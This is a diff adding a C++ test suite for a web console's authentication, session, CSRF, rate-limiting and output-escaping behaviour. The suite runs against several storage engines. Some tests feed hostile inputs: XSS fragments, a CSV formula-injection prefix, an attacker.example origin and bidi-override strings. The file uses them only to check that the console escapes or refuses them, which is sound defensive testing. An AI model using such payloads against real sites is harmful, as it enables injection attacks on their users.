@@ -1,0 +1,948 @@
+// The console's handler, without sockets: sign-in, sessions and form tokens, the sign-in
+// slow-down, the pages and exports over real reports (hostile ones among them), the security
+// headers. Every test runs against each storage engine: the in-memory double, SQLite, and
+// PostgreSQL when GRAVELIN_TEST_POSTGRES_URI names a server (tests/receiver/console/with_postgres.sh
+// starts a throw-away one).
+
+#include <gtest/gtest.h>
+#include <sodium.h>
+
+#include <algorithm>
+#include <atomic>
+#include <chrono>
+#include <filesystem>
+#include <future>
+#include <latch>
+#include <map>
+#include <memory>
+#include <nlohmann/json.hpp>
+#include <regex>
+#include <thread>
+
+#include "ConsoleTesting.h"
+#include "MemoryStore.h"
+#include "receiver/console/Accounts.h"
+#include "receiver/console/Console.h"
+#include "receiver/console/Csv.h"
+#include "receiver/console/HashQueue.h"
+
+namespace gravelin::testing {
+namespace {
+
+using server::Request;
+using server::Response;
+
+constexpr const char* kPassword = "correct horse battery staple";
+// The tests' clock starts at the real time: the real stores drop sessions that expired by it.
+const std::int64_t kStart = std::chrono::duration_cast<std::chrono::milliseconds>(
+                                std::chrono::system_clock::now().time_since_epoch())
+                                .count();
+
+std::string headerOf(const Response& r, const std::string& name) {
+    for (const auto& [key, value] : r.headers) {
+        if (key == name) return value;
+    }
+    return {};
+}
+std::vector<std::string> headersOf(const Response& r, const std::string& name) {
+    std::vector<std::string> values;
+    for (const auto& [key, value] : r.headers) {
+        if (key == name) values.push_back(value);
+    }
+    return values;
+}
+std::size_t count(const std::string& haystack, const std::string& needle) {
+    std::size_t n = 0;
+    for (auto at = haystack.find(needle); at != std::string::npos; at = haystack.find(needle, at + 1)) ++n;
+    return n;
+}
+
+// ---- the storage engines ----
+
+std::unique_ptr<storage::Store> openEngine(const std::string& engine, const std::string& scratch) {
+    if (engine == "memory") return std::make_unique<MemoryStore>();
+#ifdef GRAVELIN_CONSOLE_REAL_STORES
+    if (engine == "sqlite") {
+        storage::StoreLocation location;
+        location.dataDirectory = scratch;
+        return storage::openStore(location);
+    }
+    if (engine == "postgresql") {
+        const char* uri = std::getenv("GRAVELIN_TEST_POSTGRES_URI");
+        if (uri == nullptr || *uri == '\0') return nullptr;
+        storage::StoreLocation location;
+        location.databaseUri = uri;
+        return storage::openStore(location);
+    }
+#endif
+    (void)scratch;
+    return nullptr;
+}
+
+// Reports are built once: the scan driver over real tables, then sealed.
+const std::vector<SeedScan>& seeds() {
+    static const std::vector<SeedScan> scans = seedScans();
+    return scans;
+}
+
+class ConsoleTest : public ::testing::TestWithParam<std::string> {
+protected:
+    void SetUp() override {
+        scratch_ = std::filesystem::temp_directory_path() /
+                   ("gravelin-console-test-" + std::to_string(::getpid()) + "-" +
+                    std::to_string(counter_++));
+        std::filesystem::create_directories(scratch_);
+        store_ = openEngine(GetParam(), scratch_.string());
+        // PostgreSQL runs under tests/receiver/storage/with-postgres.sh (CTest console_test_postgresql),
+        // which names the server; without one that instance fails rather than passing unseen.
+        ASSERT_TRUE(store_) << GetParam()
+                            << " is not available: run under tests/receiver/storage/with-postgres.sh";
+        // Each test's data stands apart in a shared database: its own names and machines.
+        prefix_ = std::to_string(::getpid()) + "-" + std::to_string(counter_);
+        user_ = "alice-" + prefix_;
+        console::addUser(*store_, user_, kPassword, console::PasswordCost::Interactive);
+        console_ = makeConsole("the console's secret");
+        const auto& s = seeds();
+        for (std::size_t i = 0; i < s.size(); ++i) {
+            const auto scan = newScan(s[i].sealed, kStart - static_cast<std::int64_t>(s.size() - i) * 3600000);
+            ids_[s[i].name] = store_->addScan(scan);
+        }
+    }
+    void TearDown() override {
+        store_.reset();
+        std::error_code ignored;
+        std::filesystem::remove_all(scratch_, ignored);
+    }
+
+    server::Handler makeConsole(const std::string& secret,
+                                const std::function<void(console::ConsoleOptions&)>& adjust = {}) {
+        console::ConsoleOptions options;
+        options.secret = secret;
+        options.clock = [this] { return now_.load(); };
+        options.passwordCost = console::PasswordCost::Interactive;
+        if (adjust) adjust(options);
+        return console::makeConsole(*store_, options);
+    }
+
+    static Request request(const std::string& method, const std::string& target,
+                           const std::string& cookies = {}, const std::string& body = {},
+                           const std::string& address = "198.51.100.7") {
+        Request r;
+        r.method = method;
+        const auto q = target.find('?');
+        r.path = target.substr(0, q);
+        if (q != std::string::npos) r.query = target.substr(q + 1);
+        if (!cookies.empty()) r.headers.emplace_back("cookie", cookies);
+        if (method == "POST") r.headers.emplace_back("content-type", "application/x-www-form-urlencoded");
+        r.body = body;
+        r.remoteAddress = address;
+        r.secure = true;
+        return r;
+    }
+
+    // The name=value part of each Set-Cookie, joined as a browser would send them back.
+    static std::string cookiesFrom(const Response& r) {
+        std::string jar;
+        for (const auto& value : headersOf(r, "Set-Cookie")) {
+            const std::string pair = value.substr(0, value.find(';'));
+            if (pair.back() == '=') continue;  // a cookie being cleared
+            if (!jar.empty()) jar += "; ";
+            jar += pair;
+        }
+        return jar;
+    }
+
+    static std::string hiddenToken(const std::string& html) {
+        std::smatch m;
+        if (!std::regex_search(html, m, std::regex("name=\"token\" value=\"([^\"]*)\""))) return {};
+        return m[1];
+    }
+
+    struct Attempt {
+        Response response;
+        std::string sessionCookie;  // empty when no session was made
+    };
+
+    Attempt trySignIn(const server::Handler& console, const std::string& name,
+                      const std::string& password, const std::string& address = "198.51.100.7",
+                      const std::vector<std::pair<std::string, std::string>>& headers = {}) {
+        const Response form = console(request("GET", "/signin", {}, {}, address));
+        const std::string body = "token=" + hiddenToken(form.body) + "&name=" + name +
+                                 "&password=" + password;
+        Request post = request("POST", "/signin", cookiesFrom(form), body, address);
+        for (const auto& header : headers) post.headers.push_back(header);
+        Attempt attempt{console(post), {}};
+        for (const auto& value : headersOf(attempt.response, "Set-Cookie")) {
+            if (value.find("gravelin-session=") != std::string::npos && value.find("Max-Age=0") == std::string::npos) {
+                attempt.sessionCookie = value.substr(0, value.find(';'));
+            }
+        }
+        return attempt;
+    }
+
+    std::string signIn() {
+        const Attempt attempt = trySignIn(console_, user_, "correct+horse+battery+staple");
+        EXPECT_EQ(attempt.response.status, 303) << attempt.response.body;
+        EXPECT_FALSE(attempt.sessionCookie.empty());
+        return attempt.sessionCookie;
+    }
+
+    std::string formTokenOf(const std::string& cookie) {
+        return hiddenToken(console_(request("GET", "/machines", cookie)).body);
+    }
+
+    std::int64_t machineOf(const std::string& seed) const { return ids_.at(seed).machineId; }
+    std::int64_t scanOf(const std::string& seed) const { return ids_.at(seed).scanId; }
+
+    std::filesystem::path scratch_;
+    std::unique_ptr<storage::Store> store_;
+    server::Handler console_;
+    std::atomic<std::int64_t> now_{kStart};
+    std::string prefix_, user_;
+    std::map<std::string, storage::AddResult> ids_;
+    static inline int counter_ = 0;
+};
+
+// Every address a signed-in person can reach, with what it is.
+std::vector<std::string> pagePaths(std::int64_t machine, std::int64_t scan, std::int64_t other) {
+    const std::string m = std::to_string(machine), s = std::to_string(scan), o = std::to_string(other);
+    return {"/", "/machines", "/machines?q=Dell&sort=model&dir=asc&page=1", "/machines/" + m,
+            "/scans/" + s, "/diff?a=" + o + "&b=" + s, "/machines/999999", "/no/such/page"};
+}
+std::vector<std::string> exportPaths(std::int64_t scan) {
+    const std::string s = std::to_string(scan);
+    return {"/machines.csv", "/machines.csv?q=Dell", "/scans/" + s + ".json", "/scans/" + s + "/report",
+            "/scans/" + s + "/report.xml"};
+}
+
+TEST_P(ConsoleTest, WithoutASessionPagesRedirectToSignInAndDataAnswers401) {
+    const auto scan = scanOf("workstation, first scan");
+    for (const auto& path : pagePaths(machineOf("workstation, first scan"), scan, scan)) {
+        const Response r = console_(request("GET", path));
+        EXPECT_EQ(r.status, 303) << path;
+        EXPECT_EQ(headerOf(r, "Location"), "/signin") << path;
+        EXPECT_EQ(r.body.find("Precision"), std::string::npos) << path;
+    }
+    for (const auto& path : exportPaths(scan)) {
+        const Response r = console_(request("GET", path));
+        EXPECT_EQ(r.status, 401) << path;
+        EXPECT_EQ(r.body.find("Precision"), std::string::npos) << path;
+        EXPECT_EQ(r.body.find("7TQCK2J"), std::string::npos) << path;
+    }
+    // A cookie of the right name holding garbage is no session either.
+    for (const std::string& cookie : std::vector<std::string>{"__Host-gravelin-session=", "__Host-gravelin-session=abc.def",
+                                     "__Host-gravelin-session=" + std::string(5000, 'A'),
+                                     "__Host-gravelin-session=x.y.z", "gravelin-session=x"}) {
+        EXPECT_EQ(console_(request("GET", "/machines", cookie)).status, 303) << cookie.substr(0, 40);
+        EXPECT_EQ(console_(request("GET", "/machines.csv", cookie)).status, 401) << cookie.substr(0, 40);
+    }
+}
+
+TEST_P(ConsoleTest, SignedInEveryPageAnswersAndCarriesTheSecurityHeaders) {
+    const std::string cookie = signIn();
+    const auto scan = scanOf("workstation, module moved and disk replaced");
+    const auto before = scanOf("workstation, first scan");
+    std::vector<std::pair<std::string, std::string>> all;  // path, cookie
+    for (const auto& p : pagePaths(machineOf("workstation, first scan"), scan, before)) all.emplace_back(p, cookie);
+    for (const auto& p : exportPaths(scan)) all.emplace_back(p, cookie);
+    for (const auto& p : pagePaths(1, scan, before)) all.emplace_back(p, "");
+    all.emplace_back("/signin", "");
+    all.emplace_back("/console.css", "");
+    for (const auto& [path, jar] : all) {
+        const Response r = console_(request("GET", path, jar));
+        EXPECT_EQ(headerOf(r, "Content-Security-Policy"),
+                  "default-src 'none'; style-src 'self'; img-src 'self'; form-action 'self'; "
+                  "frame-ancestors 'none'; base-uri 'none'")
+            << path;
+        EXPECT_EQ(headerOf(r, "X-Content-Type-Options"), "nosniff") << path;
+        EXPECT_EQ(headerOf(r, "Referrer-Policy"), "no-referrer") << path;
+        if (path != "/console.css") {
+            EXPECT_EQ(headerOf(r, "Cache-Control"), "no-store") << path;
+        }
+        // No inline script or style: the policy would block them, so none are written.
+        if (!headerOf(r, "Content-Type").starts_with("text/html")) continue;
+        EXPECT_EQ(r.body.find("<script"), std::string::npos) << path;
+        EXPECT_EQ(r.body.find("style=\""), std::string::npos) << path;
+        EXPECT_EQ(r.body.find("<style"), std::string::npos) << path;
+    }
+    const std::map<std::string, int> expected = {
+        {"/", 303}, {"/machines", 200}, {"/machines/999999", 404}, {"/no/such/page", 404}};
+    for (const auto& [path, status] : expected) {
+        EXPECT_EQ(console_(request("GET", path, cookie)).status, status) << path;
+    }
+    EXPECT_EQ(console_(request("GET", "/diff?a=" + std::to_string(before) + "&b=" + std::to_string(scan), cookie)).status, 200);
+    EXPECT_EQ(headerOf(console_(request("GET", "/console.css")), "Content-Type"), "text/css; charset=utf-8");
+}
+
+TEST_P(ConsoleTest, SessionCookieIsHttpOnlySecureStrictAndOnlyItsHashIsStored) {
+    const Response form = console_(request("GET", "/signin"));
+    const Attempt attempt = trySignIn(console_, user_, "correct+horse+battery+staple");
+    ASSERT_EQ(attempt.response.status, 303);
+    std::string setCookie;
+    for (const auto& value : headersOf(attempt.response, "Set-Cookie")) {
+        if (value.starts_with("__Host-gravelin-session=")) setCookie = value;
+    }
+    ASSERT_FALSE(setCookie.empty());
+    for (const char* attribute : {"; HttpOnly", "; Secure", "; SameSite=Strict", "; Path=/", "; Max-Age=28800"}) {
+        EXPECT_NE(setCookie.find(attribute), std::string::npos) << attribute << " in " << setCookie;
+    }
+    EXPECT_EQ(setCookie.find("Domain"), std::string::npos);
+    // The cookie is token.tag; the store knows the token's SHA-256 only.
+    const std::string value = setCookie.substr(setCookie.find('=') + 1, setCookie.find(';') - setCookie.find('=') - 1);
+    const std::string tokenText = value.substr(0, value.find('.'));
+    unsigned char token[32];
+    std::size_t length = 0;
+    ASSERT_EQ(sodium_base642bin(token, sizeof token, tokenText.data(), tokenText.size(), nullptr, &length,
+                                nullptr, sodium_base64_VARIANT_URLSAFE_NO_PADDING), 0);
+    ASSERT_EQ(length, 32u);
+    unsigned char digest[32];
+    crypto_hash_sha256(digest, token, sizeof token);
+    char hex[65];
+    sodium_bin2hex(hex, sizeof hex, digest, sizeof digest);
+    const auto session = store_->session(hex);
+    ASSERT_TRUE(session.has_value());
+    EXPECT_EQ(session->expiresAtMs, kStart + 8LL * 3600 * 1000);
+    EXPECT_EQ(store_->session(tokenText), std::nullopt);
+    EXPECT_EQ(session->formToken.size(), 64u);
+    // The password is never stored, only its Argon2id hash.
+    const auto account = store_->account(user_);
+    ASSERT_TRUE(account.has_value());
+    EXPECT_TRUE(account->passwordHash.starts_with("$argon2id$")) << account->passwordHash;
+    EXPECT_EQ(account->passwordHash.find(kPassword), std::string::npos);
+    (void)form;
+}
+
+TEST_P(ConsoleTest, PlainHttpConsoleMarksCookiesSecureWhenTheProxyTerminatedTls) {
+    console::ConsoleOptions options;
+    options.secureCookies = false;
+    options.passwordCost = console::PasswordCost::Interactive;
+    const server::Handler plain = console::makeConsole(*store_, options);
+    const auto setCookie = [&](const Request& r) { return headerOf(plain(r), "Set-Cookie"); };
+    Request direct = request("GET", "/signin");
+    direct.secure = false;
+    EXPECT_TRUE(setCookie(direct).starts_with("gravelin-signin="));
+    EXPECT_EQ(setCookie(direct).find("Secure"), std::string::npos);
+    Request proxied = direct;
+    proxied.headers.emplace_back("x-forwarded-proto", "https");
+    EXPECT_NE(setCookie(proxied).find("; Secure"), std::string::npos);
+    direct.secure = true;
+    EXPECT_NE(setCookie(direct).find("; Secure"), std::string::npos);
+}
+
+TEST_P(ConsoleTest, CookieFromAnotherSecretExpiredSessionAndSignedOutSessionAreRefused) {
+    // Another console over the same store with its own secret: its cookies open nothing here.
+    const server::Handler other = makeConsole("another secret");
+    const Attempt elsewhere = trySignIn(other, user_, "correct+horse+battery+staple");
+    ASSERT_EQ(elsewhere.response.status, 303);
+    EXPECT_EQ(other(request("GET", "/machines", elsewhere.sessionCookie)).status, 200);
+    EXPECT_EQ(console_(request("GET", "/machines", elsewhere.sessionCookie)).status, 303);
+    EXPECT_EQ(console_(request("GET", "/machines.csv", elsewhere.sessionCookie)).status, 401);
+
+    // A tag from this console on a token it never made: refused too.
+    const std::string cookie = signIn();
+    std::string forged = cookie;
+    forged[forged.find('=') + 3] = forged[forged.find('=') + 3] == 'A' ? 'B' : 'A';
+    EXPECT_EQ(console_(request("GET", "/machines", forged)).status, 303);
+
+    // Valid until the session's end, refused from then on.
+    EXPECT_EQ(console_(request("GET", "/machines", cookie)).status, 200);
+    now_ += 8LL * 3600 * 1000 - 1;
+    EXPECT_EQ(console_(request("GET", "/machines", cookie)).status, 200);
+    now_ += 1;
+    EXPECT_EQ(console_(request("GET", "/machines", cookie)).status, 303);
+    EXPECT_EQ(console_(request("GET", "/scans/1.json", cookie)).status, 401);
+    now_ = kStart;
+    EXPECT_EQ(console_(request("GET", "/machines", cookie)).status, 303) << "expired sessions are dropped";
+
+    // Signing out ends the session on the server, not only in the browser.
+    const std::string fresh = signIn();
+    const std::string token = formTokenOf(fresh);
+    ASSERT_EQ(token.size(), 64u);
+    const Response out = console_(request("POST", "/signout", fresh, "token=" + token));
+    EXPECT_EQ(out.status, 303);
+    EXPECT_EQ(headerOf(out, "Location"), "/signin");
+    EXPECT_EQ(console_(request("GET", "/machines", fresh)).status, 303);
+}
+
+TEST_P(ConsoleTest, PostsWithoutTheRightFormTokenAreRefused) {
+    const std::string cookie = signIn();
+    const std::string token = formTokenOf(cookie);
+    std::string wrong = token;
+    wrong[0] = wrong[0] == 'a' ? 'b' : 'a';
+    for (const std::string& body : std::vector<std::string>{"", "token=", "token=" + wrong, "token=" + token.substr(0, 63),
+                                   "token=" + token + "0", "other=" + token}) {
+        const Response r = console_(request("POST", "/signout", cookie, body));
+        EXPECT_EQ(r.status, 403) << body;
+        EXPECT_EQ(console_(request("GET", "/machines", cookie)).status, 200) << "still signed in after " << body;
+    }
+    // Another session's token does not sign this one out.
+    const std::string second = signIn();
+    EXPECT_EQ(console_(request("POST", "/signout", cookie, "token=" + formTokenOf(second))).status, 403);
+    EXPECT_EQ(console_(request("POST", "/machines", cookie, "token=" + wrong)).status, 403);
+
+    // The sign-in form's own token: missing, from another console, or expired.
+    const Response form = console_(request("GET", "/signin"));
+    const std::string good = "name=" + user_ + "&password=correct+horse+battery+staple";
+    EXPECT_EQ(console_(request("POST", "/signin", cookiesFrom(form), good)).status, 403);
+    const Response otherForm = makeConsole("another secret")(request("GET", "/signin"));
+    EXPECT_EQ(console_(request("POST", "/signin", cookiesFrom(otherForm),
+                               "token=" + hiddenToken(otherForm.body) + "&" + good)).status, 403);
+    EXPECT_EQ(console_(request("POST", "/signin", {}, "token=" + hiddenToken(form.body) + "&" + good)).status, 403)
+        << "the token without its cookie";
+    now_ += 3600LL * 1000 + 1;
+    const Response late = console_(request("POST", "/signin", cookiesFrom(form), "token=" + hiddenToken(form.body) + "&" + good));
+    EXPECT_EQ(late.status, 403);
+    EXPECT_TRUE(headersOf(late, "Set-Cookie").size() == 1) << "no session for an expired form";
+}
+
+TEST_P(ConsoleTest, RepeatedFailedSignInsAreSlowedDownPerNameAndPerAddress) {
+    // Three free failures, then 1 s, 2 s, 4 s ... during which even the right password waits.
+    for (int i = 0; i < 3; ++i) {
+        EXPECT_EQ(trySignIn(console_, user_, "wrong").response.status, 401) << i;
+    }
+    EXPECT_EQ(trySignIn(console_, user_, "wrong").response.status, 401);
+    Attempt locked = trySignIn(console_, user_, "correct+horse+battery+staple");
+    EXPECT_EQ(locked.response.status, 429);
+    EXPECT_EQ(headerOf(locked.response, "Retry-After"), "1");
+    EXPECT_TRUE(locked.sessionCookie.empty());
+    now_ += 1000;
+    EXPECT_EQ(trySignIn(console_, user_, "wrong").response.status, 401);
+    now_ += 1999;
+    EXPECT_EQ(trySignIn(console_, user_, "correct+horse+battery+staple").response.status, 429);
+    // Another address does not unlock the name.
+    EXPECT_EQ(trySignIn(console_, user_, "correct+horse+battery+staple", "203.0.113.99").response.status, 429);
+    now_ += 1;
+    EXPECT_EQ(trySignIn(console_, user_, "correct+horse+battery+staple").response.status, 303);
+    // The success cleared the name's count: three free failures again.
+    for (int i = 0; i < 4; ++i) EXPECT_EQ(trySignIn(console_, user_, "wrong").response.status, 401) << i;
+    EXPECT_EQ(trySignIn(console_, user_, "wrong").response.status, 429);
+
+    // One address trying many names: locked after ten failures, whatever the name.
+    const std::string address = "192.0.2.200";
+    for (int i = 0; i < 10; ++i) {
+        EXPECT_EQ(trySignIn(console_, "guess" + std::to_string(i), "pw", address).response.status, 401) << i;
+    }
+    EXPECT_EQ(trySignIn(console_, "guess-more", "pw", address).response.status, 401);
+    EXPECT_EQ(trySignIn(console_, "guess-again", "pw", address).response.status, 429);
+}
+
+// Forty wrong passwords for one name at once get no more checks than forty in a row: the
+// three free failures and the one that locks the name. The rest are refused unchecked.
+TEST_P(ConsoleTest, ParallelWrongPasswordsGetNoMoreChecksThanSequentialOnes) {
+    constexpr int kGuesses = 40;
+    std::vector<Request> posts;
+    for (int i = 0; i < kGuesses; ++i) {
+        const Response form = console_(request("GET", "/signin"));
+        posts.push_back(request("POST", "/signin", cookiesFrom(form),
+                                "token=" + hiddenToken(form.body) + "&name=" + user_ +
+                                    "&password=guess-" + std::to_string(i)));
+    }
+    std::latch go(kGuesses);
+    std::vector<int> statuses(kGuesses);
+    std::vector<std::thread> threads;
+    for (int i = 0; i < kGuesses; ++i) {
+        threads.emplace_back([&, i] {
+            go.arrive_and_wait();
+            statuses[i] = console_(posts[i]).status;
+        });
+    }
+    for (auto& thread : threads) thread.join();
+    std::map<int, int> answers;
+    for (const int status : statuses) ++answers[status];
+    EXPECT_EQ(answers, (std::map<int, int>{{401, 4}, {429, kGuesses - 4}}));
+}
+
+// Password checks have threads and a small queue of their own: with both taken, a sign-in is
+// answered 503 with Retry-After at once (the call returns while the queue is still blocked),
+// and an attempt refused that way is not counted as a failure.
+TEST_P(ConsoleTest, SignInsBeyondThePasswordQueueAreAnswered503AtOnce) {
+    auto queue = std::make_shared<console::HashQueue>(1, 1);
+    std::promise<void> running, release;
+    std::shared_future<void> released = release.get_future().share();
+    auto busy = queue->submit([&] {
+        running.set_value();
+        released.wait();
+        return false;
+    });
+    ASSERT_TRUE(busy);
+    running.get_future().wait();  // the one thread is taken...
+    auto waiting = queue->submit([] { return false; });
+    ASSERT_TRUE(waiting);  // ...and the one place in the queue
+    EXPECT_FALSE(queue->submit([] { return false; })) << "the queue holds no more";
+
+    const server::Handler console = makeConsole("the console's secret", [&](console::ConsoleOptions& o) {
+        o.hashQueue = queue;
+    });
+    for (int i = 0; i < 5; ++i) {
+        const Attempt refused = trySignIn(console, user_, "wrong-password");
+        EXPECT_EQ(refused.response.status, 503) << i;
+        EXPECT_EQ(headerOf(refused.response, "Retry-After"), "5") << i;
+        EXPECT_TRUE(refused.sessionCookie.empty());
+    }
+    release.set_value();
+    busy->get();
+    waiting->get();
+    // Five refused attempts, more than the three free failures, yet the name is not locked.
+    EXPECT_EQ(trySignIn(console, user_, "correct+horse+battery+staple").response.status, 303);
+}
+
+// Behind the reverse proxy every client has the proxy's address: its X-Forwarded-For entry
+// says who it is, so one client's failures lock out that client only. Any other peer's
+// header is its own claim and is ignored.
+TEST_P(ConsoleTest, BehindTheTrustedProxyEachClientIsCountedByItsOwnAddress) {
+    const std::string proxy = "10.0.0.5";
+    const server::Handler console = makeConsole("the console's secret", [&](console::ConsoleOptions& o) {
+        o.trustedProxy = proxy;
+    });
+    const auto via = [](const std::string& forwarded) {
+        return std::vector<std::pair<std::string, std::string>>{{"x-forwarded-for", forwarded}};
+    };
+    // Client A, through the proxy: ten free failures (other names each time), one that
+    // locks, then refused.
+    for (int i = 0; i < 11; ++i) {
+        EXPECT_EQ(trySignIn(console, "guess" + std::to_string(i), "pw", proxy, via("192.0.2.1, 203.0.113.50"))
+                      .response.status,
+                  401)
+            << i;
+    }
+    EXPECT_EQ(trySignIn(console, "guess-more", "pw", proxy, via("203.0.113.50")).response.status, 429);
+    // Client B, through the same proxy, signs in.
+    EXPECT_EQ(trySignIn(console, user_, "correct+horse+battery+staple", proxy, via("198.51.100.99"))
+                  .response.status,
+              303);
+    // A peer that is not the proxy cannot pick its address with the header.
+    const std::string peer = "192.0.2.77";
+    for (int i = 0; i < 11; ++i) {
+        EXPECT_EQ(trySignIn(console, "other" + std::to_string(i), "pw", peer, via("203.0.113." + std::to_string(i)))
+                      .response.status,
+                  401)
+            << i;
+    }
+    EXPECT_EQ(trySignIn(console, "other-more", "pw", peer, via("203.0.113.200")).response.status, 429);
+}
+
+// A replaced password (`user add` for an existing name) signs that account out everywhere;
+// other accounts keep their sessions.
+TEST_P(ConsoleTest, ANewPasswordEndsEverySessionOfThatAccount) {
+    const std::string first = signIn();
+    const std::string second = signIn();
+    const std::string bob = "bob-" + prefix_;
+    console::addUser(*store_, bob, kPassword, console::PasswordCost::Interactive);
+    const Attempt bobs = trySignIn(console_, bob, "correct+horse+battery+staple");
+    ASSERT_EQ(bobs.response.status, 303);
+    for (const std::string& cookie : {first, second, bobs.sessionCookie}) {
+        ASSERT_EQ(console_(request("GET", "/machines", cookie)).status, 200);
+    }
+    console::addUser(*store_, user_, "a brand new password", console::PasswordCost::Interactive);
+    for (const std::string& cookie : {first, second}) {
+        const Response r = console_(request("GET", "/machines", cookie));
+        EXPECT_EQ(r.status, 303);
+        EXPECT_EQ(headerOf(r, "Location"), "/signin");
+    }
+    EXPECT_EQ(console_(request("GET", "/machines", bobs.sessionCookie)).status, 200);
+    EXPECT_EQ(trySignIn(console_, user_, "correct+horse+battery+staple").response.status, 401);
+    EXPECT_EQ(trySignIn(console_, user_, "a+brand+new+password").response.status, 303);
+}
+
+// Login forgery: a page on another port of this host fetches a sign-in form for its own
+// account, plants the form's cookie (cookies do not keep ports apart) and posts the form
+// from the victim's browser. The browser says where the form came from; only the console's
+// own origin may sign in. And every page says who is signed in.
+TEST_P(ConsoleTest, SignInFormsPostedFromAnotherOriginAreRefusedAndPagesSayWhoIsSignedIn) {
+    using Headers = std::vector<std::pair<std::string, std::string>>;
+    const std::string console = "127.0.0.1:8081";
+    const struct {
+        const char* what;
+        Headers headers;
+        int status;
+    } cases[] = {
+        {"another port of this host", {{"sec-fetch-site", "same-site"}, {"origin", "http://127.0.0.1:9999"}, {"host", console}}, 403},
+        {"another site", {{"sec-fetch-site", "cross-site"}, {"origin", "http://attacker.example"}, {"host", console}}, 403},
+        {"another port, Origin only", {{"origin", "http://127.0.0.1:9999"}, {"host", console}}, 403},
+        {"an opaque origin", {{"origin", "null"}, {"host", console}}, 403},
+        {"the console's own form", {{"sec-fetch-site", "same-origin"}, {"origin", "http://" + console}, {"host", console}}, 303},
+        {"the console's own form, Origin only", {{"origin", "http://" + console}, {"host", console}}, 303},
+        {"a client that is not a browser", {}, 303},
+    };
+    for (const auto& c : cases) {
+        const Attempt attempt = trySignIn(console_, user_, "correct+horse+battery+staple", "198.51.100.7", c.headers);
+        EXPECT_EQ(attempt.response.status, c.status) << c.what;
+        EXPECT_EQ(attempt.sessionCookie.empty(), c.status != 303) << c.what;
+    }
+
+    const std::string cookie = signIn();
+    const auto scan = scanOf("workstation, first scan");
+    const std::string shown = "Signed in as <strong><bdi>" + user_ + "</bdi></strong>";
+    auto paths = pagePaths(machineOf("workstation, first scan"), scan, scanOf("workstation, module moved and disk replaced"));
+    paths.push_back("/signin");
+    for (const auto& path : paths) {
+        Response r = console_(request("GET", path, cookie));
+        if (r.status == 303) r = console_(request("GET", headerOf(r, "Location"), cookie));
+        EXPECT_NE(r.body.find(shown), std::string::npos) << path;
+    }
+    EXPECT_EQ(console_(request("GET", "/signin")).body.find("Signed in as"), std::string::npos);
+}
+
+// Values that need no markup to spoil a page: a 10,000-character firmware string (shown
+// whole), a right-to-left override in the maker (kept inside its own element, so that it
+// cannot reverse the model after it) and the code-page bytes Windows-1252 leaves undefined
+// (shown as \x81 ..., never sent raw to a page or into the CSV).
+TEST_P(ConsoleTest, LongReversingAndUndefinedValuesAreShownWholeIsolatedAndVisible) {
+    const std::string cookie = signIn();
+    const auto machine = std::to_string(machineOf("unreadable"));
+    const auto scan = std::to_string(scanOf("unreadable"));
+    const std::string visibleSerial = "SN\\x81\\x8d\\x8f\\x90\\x9d42";
+    // A control character in a page or a CSV: C0 but TAB, LF and CR; DEL; C1 (UTF-8 C2 80..9F).
+    const auto hasControl = [](const std::string& text) {
+        for (std::size_t i = 0; i < text.size(); ++i) {
+            const auto c = static_cast<unsigned char>(text[i]);
+            if ((c < 0x20 && c != '\t' && c != '\n' && c != '\r') || c == 0x7F) return true;
+            if (c == 0xC2 && i + 1 < text.size() && (static_cast<unsigned char>(text[i + 1]) & 0xE0) == 0x80) return true;
+        }
+        return false;
+    };
+    const std::string fsi = "\u2068", pdi = "\u2069";
+    for (const std::string& path : std::vector<std::string>{"/machines", "/machines?q=LFD0001", "/machines/" + machine, "/scans/" + scan}) {
+        const Response r = console_(request("GET", path, cookie));
+        ASSERT_EQ(r.status, 200) << path;
+        EXPECT_FALSE(hasControl(r.body)) << path;
+        // Every time the maker is shown, it is isolated: in an element of its own, or
+        // between isolate marks in the title.
+        const std::size_t shown = count(r.body, kReversingMaker);
+        EXPECT_EQ(shown, count(r.body, "<bdi>" + kReversingMaker + "</bdi>") + count(r.body, fsi + kReversingMaker + pdi))
+            << path;
+    }
+    const Response page = console_(request("GET", "/machines/" + machine, cookie));
+    EXPECT_NE(page.body.find("<h1><bdi>" + kReversingMaker + "</bdi> <bdi>" + kReversedModel + "</bdi></h1>"),
+              std::string::npos);
+    EXPECT_NE(page.body.find("<bdi>" + kLongFirmware + "</bdi>"), std::string::npos) << "the firmware, whole";
+    EXPECT_NE(page.body.find("<bdi>" + visibleSerial + "</bdi>"), std::string::npos);
+
+    const Response csv = console_(request("GET", "/machines.csv", cookie));
+    std::string records = csv.body;
+    records.erase(std::remove(records.begin(), records.end(), '\r'), records.end());
+    records.erase(std::remove(records.begin(), records.end(), '\n'), records.end());
+    EXPECT_FALSE(hasControl(records));
+    EXPECT_NE(csv.body.find(visibleSerial), std::string::npos);
+}
+
+TEST_P(ConsoleTest, UnknownNamesAndWrongPasswordsGetTheSameAnswer) {
+    const Attempt unknown = trySignIn(console_, "nobody-" + prefix_, "whatever-password");
+    const Attempt wrong = trySignIn(console_, user_, "whatever-password");
+    EXPECT_EQ(unknown.response.status, wrong.response.status);
+    const auto normalised = [](std::string body) {
+        body = std::regex_replace(body, std::regex("value=\"[^\"]*\""), "value=\"\"");
+        return body;
+    };
+    EXPECT_EQ(normalised(unknown.response.body), normalised(wrong.response.body));
+    EXPECT_NE(wrong.response.body.find("Wrong name or password."), std::string::npos);
+}
+
+TEST_P(ConsoleTest, HostileReportIsEscapedOnEveryPageAndDefusedInTheCsv) {
+    const std::string cookie = signIn();
+    const auto machine = machineOf("hostile");
+    const auto first = scanOf("hostile"), second = scanOf("hostile, second scan");
+    ASSERT_EQ(machineOf("hostile, second scan"), machine);
+    const std::vector<std::string> pages = {
+        "/machines", "/machines?sort=maker&dir=desc", "/machines?q=javascript",
+        "/machines/" + std::to_string(machine), "/scans/" + std::to_string(first),
+        "/diff?a=" + std::to_string(first) + "&b=" + std::to_string(second)};
+    for (const auto& path : pages) {
+        const Response r = console_(request("GET", path, cookie));
+        ASSERT_EQ(r.status, 200) << path;
+        for (const std::string raw : {"<script", "<img", "<svg", "<style", "onmouseover=\"", "onerror=\"",
+                                      "'><", "</table><script", "href=\"javascript:", "href=\"=HYPER"}) {
+            const auto at = r.body.find(raw);
+            EXPECT_EQ(at, std::string::npos) << raw << " raw on " << path << ": "
+                                             << r.body.substr(at < 300 ? 0 : at - 300, 400);
+        }
+    }
+    const std::string machinePage = console_(request("GET", "/machines/" + std::to_string(machine), cookie)).body;
+    for (const std::string escaped : {"&lt;script&gt;window.__gravelinPwned=1&lt;/script&gt;&quot;onmouseover=&quot;",
